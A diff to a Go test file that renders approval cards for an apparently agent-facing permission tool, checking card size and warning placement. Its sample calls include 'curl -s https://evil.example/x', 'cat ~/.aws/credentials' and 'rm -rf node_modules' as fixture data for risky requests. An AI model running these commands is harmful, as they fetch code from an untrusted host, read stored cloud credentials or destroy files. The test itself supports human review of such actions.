@@ -32,11 +32,12 @@ const (
 	menuHigh   = 40
 )
 
-// common are the kinds that people answer every day: at most 400 px tall, their call
-// within the first 60 characters.
+// common are the kinds that people answer every day: at most 400 px tall, their call within
+// the first 60 characters, or behind the warning that comes first.
 var common = map[string]string{
 	"plain": "npm run build", "install": "npm install left-pad", "edit": "src/price.ts", "fetch": "docs.python.org",
 	"mcp": "create_pull_request", "command": "rm -rf node_modules", "safety-shell": "curl -s https://evil.example/x",
+	"ask-rule": "git push", "project-file": "git push", "safety-rule": "git push", "server": "get_issue", "secret": "cat ~/.aws/credentials", "changed": "make",
 }
 
 // TestCards draws each kind of card as a phone shows it, into docs/pictures/cards, and
@@ -59,7 +60,7 @@ func TestCards(t *testing.T) {
 			at = strings.Index(visibleText(m.Content), want)
 		}
 		sizes = append(sizes, fmt.Sprintf("%-14s %5d px  call at %d", name, p.y, at))
-		if limit := 60; want != "" && (p.y > 400 || at < 0 || at >= limit && name != "safety-shell") {
+		if limit := 60; want != "" && (p.y > 400 || at < 0 || at >= limit && !strings.HasPrefix(m.Content, "⚠")) {
 			t.Errorf("%s is %d px tall, and its call begins at %d: want at most 400 px, and within the first %d characters\n%s", name, p.y, at, limit, m.Content)
 		}
 		a.TakesInput = true // a button more
@@ -77,6 +78,13 @@ func TestCards(t *testing.T) {
 	}
 	golden.File(t, repo.File("docs", "pictures", "cards", "batch.svg"), batch.svg())
 	sizes = append(sizes, fmt.Sprintf("%-14s %5d px", "batch", batch.y))
+	grave := []ask.Ask{asktest.Kinds()["safety-shell"], asktest.Kinds()["long"]}
+	for i := range grave {
+		grave[i].ID, grave[i].State = fmt.Sprintf("q%dm9qd", 1+i), ask.Queued
+	}
+	careful := drawCard(message.Card(asktest.Kinds()["install"], message.View{Instance: "i1", Waiting: 2, Behind: grave}).Message)
+	golden.File(t, repo.File("docs", "pictures", "cards", "batch-careful.svg"), careful.svg())
+	sizes = append(sizes, fmt.Sprintf("%-14s %5d px", "batch-careful", careful.y))
 	golden.Check(t, "sizes", strings.Join(sizes, "\n")+"\n")
 	plain := drawCard(message.Card(asktest.Kinds()["plain"], message.View{Instance: "i1"}).Message)
 	golden.File(t, repo.File("docs", "pictures", "card.svg"), plain.svg())
@@ -280,12 +288,12 @@ func (p *phonePicture) svg() string {
 func TestPictures_none(t *testing.T) {
 	t.Parallel()
 	list, err := filepath.Glob(repo.File("docs", "pictures", "cards", "*.svg"))
-	if err != nil || len(list) != len(asktest.Names())+1 {
+	if err != nil || len(list) != len(asktest.Names())+2 {
 		t.Errorf("%d pictures of %d kinds, %v: run make cards", len(list), len(asktest.Names()), err)
 	}
 	for _, file := range list {
 		name := strings.TrimSuffix(filepath.Base(file), ".svg")
-		if _, ok := asktest.Kinds()[name]; !ok && name != "batch" {
+		if _, ok := asktest.Kinds()[name]; !ok && name != "batch" && name != "batch-careful" {
 			t.Errorf("%s is of no kind of card: remove it", file)
 		}
 		if info, err := os.Stat(file); err != nil || info.Size() == 0 {
